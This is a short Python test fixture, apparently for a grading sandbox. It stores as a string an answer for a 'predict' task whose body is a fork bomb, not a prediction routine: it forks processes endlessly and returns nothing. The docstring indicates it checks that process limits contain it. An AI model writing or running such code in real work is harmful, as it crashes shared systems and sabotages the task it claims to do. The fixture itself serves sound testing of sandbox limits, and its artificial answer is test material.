"""Forks without end. The limit holds, the batch goes on and nothing is left."""

HONEST = ("cost",)
EARNS = {"cost": 3.0}
ANSWERS = {
    "predict": """
import os

def predict(X, w, b):
    for _ in range(3000):
        try:
            if os.fork() == 0:
                while True:
                    os.fork()
        except OSError:
            break
    return None
"""
}
